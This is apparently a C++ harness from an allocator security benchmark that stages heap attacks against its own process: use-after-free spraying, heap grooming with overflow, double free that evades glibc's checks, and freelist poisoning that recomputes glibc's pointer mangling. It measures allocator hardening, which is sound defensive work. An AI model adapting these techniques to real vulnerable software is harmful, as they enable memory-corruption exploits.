// One attempt of an attack: attacks NAME SIZE NUMBER.
// bench/security/attacks.py makes the attempts, and says what the words mean.
//
// The attacker sends requests and so decides what is allocated and freed, and in which order. They
// know the program and the allocator, and that one defect. They have won when the program finds
// their value where it keeps the address of a function.
#include <sys/wait.h>
#include <unistd.h>

#include <cstdint>
#include <cstdlib>
#include <string_view>
#include <vector>

#include "program.hpp"

namespace security {
namespace {

using Word = std::uintptr_t;
constexpr Word kFunction = 0x1111111111111111;
constexpr Word kAttackers = 0x4141414141414141;
constexpr std::size_t kSpray = std::size_t{1} << 20U;
// What the attacker would like to be handed out.
alignas(64) Byte g_target[1U << 16U];

// By the program's own instructions: what a copy hits, checked copies may find.
void store(Byte* to, Word word) { *reinterpret_cast<volatile Word*>(opaque(to)) = word; }

Byte* take_filled(std::size_t size, Word word) {
  auto* const block = opaque(static_cast<Byte*>(malloc(size)));
  if (block == nullptr) _exit(3);
  for (std::size_t at = 0; at + sizeof word <= size; at += sizeof word) {
    store(block + at, word);
  }
  return block;
}
Byte* take_victim(std::size_t size) { return take_filled(size, kFunction); }
Byte* spray_one(std::size_t size) { return take_filled(size, kAttackers); }

// The program calls the function.
void use(const Byte* victim) {
  const Word word = *reinterpret_cast<const volatile Word*>(opaque(victim));
  if (word == kAttackers) effect("the attacker's function is called");
}

// What the program has done before: blocks of many sizes, half of them freed. The same each time,
// as the attacker can send the same requests again.
void live_a_while() {
  constexpr int kBlocks = 4000;
  std::vector<void*> blocks;
  std::uint32_t random = 1;
  for (int i = 0; i < kBlocks; ++i) {
    random = random * 1664525U + 1013904223U;
    blocks.push_back(opaque(malloc(8 + (random >> 16U) % 1000)));
    if (i % 2 == 1) {
      const std::size_t chosen = (random >> 4U) % blocks.size();
      free(opaque(blocks[chosen]));
      blocks[chosen] = blocks.back();
      blocks.pop_back();
    }
  }
}

// The victim is used after it was freed, and so many others of its size have been allocated.
void spray(std::size_t size, std::size_t count) {
  Byte* const victim = take_victim(size);
  before();
  free(opaque(victim));
  for (std::size_t i = 0; i < count; ++i) spray_one(size);
  use(victim);
  after();
}

// The same with as many frees, which push the victim out of where it may wait.
void spray_with_frees(std::size_t size, std::size_t count) {
  std::vector<Byte*> others(count);
  for (Byte*& other : others) other = take_victim(size);
  Byte* const victim = take_victim(size);
  before();
  free(opaque(victim));
  for (Byte* other : others) free(opaque(other));
  for (std::size_t i = 0; i < 2 * count; ++i) spray_one(size);
  use(victim);
  after();
}

// The same after all objects of its type were freed, by blocks of another type, `times` as large.
void spray_of_another_size(std::size_t size, std::size_t times) {
  std::vector<Byte*> victims(kSpray / size);
  for (Byte*& victim : victims) victim = take_victim(size);
  before();
  for (Byte* victim : victims) free(opaque(victim));
  for (std::size_t bytes = 0; bytes < 4 * kSpray; bytes += size * times) spray_one(size * times);
  use(victims[victims.size() / 2]);
  after();
}

// Attacker's blocks and victims in turn, after the holes are filled; one of the former overflows by
// so many sizes.
void groom(std::size_t size, std::size_t times) {
  constexpr std::size_t kHoles = 512;
  constexpr std::size_t kPairs = 64;
  for (std::size_t i = 0; i < kHoles; ++i) take_victim(size);
  std::vector<Byte*> victims(kPairs);
  std::vector<Byte*> buffers(kPairs);
  for (std::size_t i = 0; i < kPairs; ++i) {
    buffers[i] = spray_one(size);
    victims[i] = take_victim(size);
  }
  Byte* const buffer = buffers[kPairs / 2];
  before();
  // Less would hit what the allocator keeps in front of the next block, if anything.
  for (std::size_t at = 0; at + sizeof(Word) <= (times + 1) * size + 2 * sizeof(Word);
       at += sizeof(Word)) {
    store(buffer + at, kAttackers);
  }
  for (const Byte* victim : victims) use(victim);
  after();
}

std::ptrdiff_t distance_to_victim(std::size_t size, Byte** buffer, Byte** victim) {
  *buffer = spray_one(size);
  *victim = take_victim(size);
  return *victim - *buffer;
}
// From another process of the program.
std::ptrdiff_t known_distance(const char* size) {
  int ends[2];
  if (pipe(ends) != 0) _exit(3);
  const pid_t child = fork();
  if (child == 0) {
    dup2(ends[1], STDOUT_FILENO);
    execl("/proc/self/exe", "attacks", "measure", size, "0", nullptr);
    _exit(3);
  }
  std::ptrdiff_t distance = 0;
  if (read(ends[0], &distance, sizeof distance) != sizeof distance) _exit(3);
  waitpid(child, nullptr, 0);
  return distance;
}
// One write, at the distance that another process has shown.
void write_at_a_known_distance(std::size_t size, std::ptrdiff_t distance) {
  Byte* buffer;
  Byte* victim;
  distance_to_victim(size, &buffer, &victim);
  before();
  store(buffer + distance, kAttackers);
  use(victim);
  after();
}

// Freed twice, with another in between: is it handed out twice? `checked` others that are freed
// before fill what glibc checks.
void free_twice(std::size_t size, std::size_t checked) {
  constexpr std::size_t kSprayed = 64;
  std::vector<Byte*> others(checked);
  for (Byte*& other : others) other = take_victim(size);
  Byte* const block = take_victim(size);
  Byte* const between = take_victim(size);
  for (Byte* other : others) free(opaque(other));
  before();
  free(opaque(block));
  free(opaque(between));
  free(opaque(block));
  for (std::size_t i = 0; i < checked; ++i) spray_one(size);
  Byte* const victim = take_victim(size);
  // With more, glibc would find its list damaged.
  const std::size_t count = checked != 0 ? 2 : kSprayed;
  for (std::size_t i = 0; i < count; ++i) spray_one(size);
  use(victim);
  after();
}

// A freed block gets the address of a static array, as glibc's list has addresses (`is_mixed`) or
// as it is.
void write_into_a_list(std::size_t size, bool is_mixed) {
  Byte* const first = take_victim(size);
  Byte* const last = take_victim(size);
  const Word target = reinterpret_cast<Word>(g_target);
  const Word link = is_mixed ? target ^ (reinterpret_cast<Word>(last) >> 12U) : target;
  before();
  free(opaque(first));
  free(opaque(last));
  store(last, link);
  for (int i = 0; i < 8; ++i) spray_one(size);
  use(g_target);
  after();
}

int attack(std::string_view name, const char* size_text, std::size_t number) {
  const std::size_t size = std::strtoul(size_text, nullptr, 10);
  const bool measures = name == "known distance";
  const std::ptrdiff_t distance = measures ? known_distance(size_text) : 0;
  live_a_while();
  if (name == "measure") {
    Byte* buffer;
    Byte* victim;
    const std::ptrdiff_t found = distance_to_victim(size, &buffer, &victim);
    return write(STDOUT_FILENO, &found, sizeof found) == sizeof found ? 0 : 3;
  }
  say_who_serves();
  if (name == "spray") {
    spray(size, number);
  } else if (name == "spray with frees") {
    spray_with_frees(size, number);
  } else if (name == "spray of another size") {
    spray_of_another_size(size, number);
  } else if (name == "groomed overflow") {
    groom(size, number);
  } else if (measures) {
    write_at_a_known_distance(size, distance);
  } else if (name == "double free") {
    free_twice(size, number);
  } else if (name == "list of free blocks") {
    write_into_a_list(size, number != 0);
  } else {
    say("there is no such attack\n");
    return 2;
  }
  say("\n@@done\n");
  // What is left of the heap is nobody's concern.
  _exit(0);
}

}  // namespace
}  // namespace security

int main(int count, char** arguments) {
  if (count != 4) {
    security::say("usage: attacks NAME SIZE NUMBER\n");
    return 2;
  }
  return security::attack(arguments[1], arguments[2], std::strtoul(arguments[3], nullptr, 10));
}
